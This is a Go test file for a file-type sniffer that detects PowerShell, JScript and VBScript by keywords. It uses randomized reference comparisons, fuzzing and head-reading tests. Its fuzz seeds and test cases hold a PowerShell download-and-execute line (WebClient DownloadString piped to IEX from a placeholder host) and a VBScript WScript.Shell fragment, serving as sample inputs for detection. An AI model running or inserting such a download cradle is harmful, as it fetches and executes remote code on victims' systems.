package content

import (
	"bytes"
	"math/rand/v2"
	"strings"
	"testing"
)

// scriptByKeywordsRef is scriptByKeywords as first written: one
// strings.Contains per keyword on the lowercased head.
func scriptByKeywordsRef(head []byte) string {
	if bytes.IndexByte(head, 0) >= 0 {
		return ""
	}
	s := strings.ToLower(string(head))
	count := func(words []string) int {
		n := 0
		for _, w := range words {
			if strings.Contains(s, w) {
				n++
			}
		}
		return n
	}
	switch {
	case count(psWords) >= 2:
		return "PowerShell"
	case count(jsWords) >= 2:
		return "JScript"
	case count(vbWords) >= 3 && strings.Contains(s, "createobject("):
		return "VBScript"
	}
	return ""
}

// randomHead mixes keywords (in random case, sometimes cut short), words
// that share their beginnings, ASCII, UTF-8 (with the two runes that lower
// to ASCII) and invalid bytes.
func randomHead(rng *rand.Rand) []byte {
	pieces := []string{" ", "\n", "(", ".", "-", "$", "x", "in", "iex", "invoke", "wscript", "create", "object", "set ", "dim",
		"end", "on error", "shell", "\u0130", "\u212a", "é", "日本", "\xff", "\xc4", "\xe2\x84", "\x80", "\x00"}
	var b []byte
	for n := rng.IntN(30); n > 0; n-- {
		var p string
		if rng.IntN(3) == 0 {
			p = scriptWords[rng.IntN(len(scriptWords))]
			if rng.IntN(4) == 0 {
				p = p[:rng.IntN(len(p))]
			}
		} else {
			p = pieces[rng.IntN(len(pieces))]
		}
		for _, c := range []byte(p) {
			if c >= 'a' && c <= 'z' && rng.IntN(3) == 0 {
				c -= 'a' - 'A'
			}
			b = append(b, c)
		}
	}
	return b
}

func TestKeywordsMatchReference(t *testing.T) {
	rng := rand.New(rand.NewPCG(7, 7))
	kinds := map[string]int{}
	for range 300000 {
		b := randomHead(rng)
		if got, want := scriptByKeywords(b), scriptByKeywordsRef(b); got != want {
			t.Fatalf("scriptByKeywords(%q) = %q, reference %q", b, got, want)
		} else {
			kinds[got]++
		}
		if bytes.IndexByte(b, 0) < 0 && !bytes.Contains(b, []byte("\u0130")) && !bytes.Contains(b, []byte("\u212a")) {
			if got, want := keywords().find(b), findLowered(b); got != want {
				t.Fatalf("find(%q) = %x, by strings.Contains %x", b, got, want)
			}
		}
	}
	for _, k := range []string{"", "PowerShell", "JScript", "VBScript"} {
		if kinds[k] == 0 {
			t.Errorf("no case gave %q: %v", k, kinds)
		}
	}
}

// TestKeywordsEverywhere: each keyword at every place of heads of several
// lengths (across the two halves find runs side by side), in both cases.
func TestKeywordsEverywhere(t *testing.T) {
	a := keywords()
	for _, n := range []int{4, 5, 33, 34, 67, 68, 69, 70, 200, 201} {
		for wi, w := range scriptWords {
			for pos := 0; pos+len(w) <= n; pos++ {
				for _, v := range []string{w, strings.ToUpper(w)} {
					b := bytes.Repeat([]byte{'x'}, n)
					copy(b[pos:], v)
					if got := a.find(b); got != 1<<wi && got&(1<<wi) == 0 {
						t.Fatalf("%q at %d of %d: found %x", v, pos, n, got)
					}
					if got, want := a.find(b), findLowered(b); got != want {
						t.Fatalf("%q at %d of %d: found %x, want %x", v, pos, n, got, want)
					}
				}
			}
		}
	}
}

func TestKeywordsFoldedRunes(t *testing.T) {
	// 'İ' and the Kelvin sign lower to 'i' and 'k' in strings.ToLower
	for _, s := range []string{"\u0130ex($x); \u0130nvo\u212ae-expression", "Invo\u212Ae-Expression; \u0130EX ("} {
		if got := scriptByKeywords([]byte(s)); got != "PowerShell" {
			t.Errorf("%q: %q", s, got)
		}
	}
}

func FuzzScriptByKeywords(f *testing.F) {
	f.Add([]byte("$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))"))
	f.Add([]byte("On Error Resume Next\nDim o\nSet o = CreateObject(\"WScript.Shell\")"))
	f.Add([]byte("\u0130ex($x); invo\u212ae-expression"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if got, want := scriptByKeywords(b), scriptByKeywordsRef(b); got != want {
			t.Fatalf("scriptByKeywords(%q) = %q, reference %q", b, got, want)
		}
	})
}

// TestReadHead: Sniff finds the same in what readHead reads as in the
// first headSize bytes, wherever the deciding bytes lie.
func TestReadHead(t *testing.T) {
	ps := "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))"
	peAt := func(size, lfanew int) []byte {
		b := bytes.Repeat([]byte{0}, size)
		copy(b, "MZ")
		b[0x3c], b[0x3d], b[0x3e] = byte(lfanew), byte(lfanew>>8), byte(lfanew>>16)
		if lfanew+4 <= size {
			copy(b[lfanew:], "PE\x00\x00")
		}
		return b
	}
	text := func(size int, at int, s string) []byte {
		b := bytes.Repeat([]byte("lorem ipsum "), size/12+1)[:size]
		copy(b[at:], s)
		return b
	}
	cases := map[string][]byte{
		"pe header in probe":        peAt(8000, 0x80),
		"pe header past probe":      peAt(20000, 10000),
		"pe header past head":       peAt(70000, 66000),
		"keywords past probe":       text(20000, 10000, ps),
		"keywords in probe":         text(20000, 100, ps),
		"keywords past head":        text(100000, 70000, ps),
		"nul past probe":            append(text(10000, 100, ps), 0),
		"nul in probe":              append([]byte{0}, text(10000, 9000, ps)...),
		"short":                     []byte(ps),
		"exactly the probe":         text(headProbe, headProbe-len(ps), ps),
		"probe plus one":            text(headProbe+1, headProbe+1-len(ps), ps),
		"elf with keywords after":   append([]byte("\x7fELF\x02\x01\x01\x00"), text(10000, 9000, ps)...),
		"shebang with nul after":    append([]byte("#!/bin/sh\n"), bytes.Repeat([]byte{0}, 9000)...),
		"binary, keywords past nul": append(append([]byte("\x01\x02\x00\x03"), bytes.Repeat([]byte{'x'}, 5000)...), ps...),
	}
	buf := make([]byte, headSize)
	for name, b := range cases {
		n, err := readHead(bytes.NewReader(b), buf)
		if err != nil {
			t.Fatal(name, err)
		}
		full := b[:min(len(b), headSize)]
		if !bytes.Equal(buf[:n], full[:n]) {
			t.Fatalf("%s: read the wrong bytes", name)
		}
		got, want := Sniff(buf[:n], bytes.NewReader(b), int64(len(b))), Sniff(full, bytes.NewReader(b), int64(len(b)))
		if got.Name != want.Name || got.Class != want.Class {
			t.Errorf("%s: %+v from %d bytes, %+v from %d", name, got, n, want, len(full))
		}
		t.Logf("%s: read %d, %q", name, n, got.Name)
	}
}
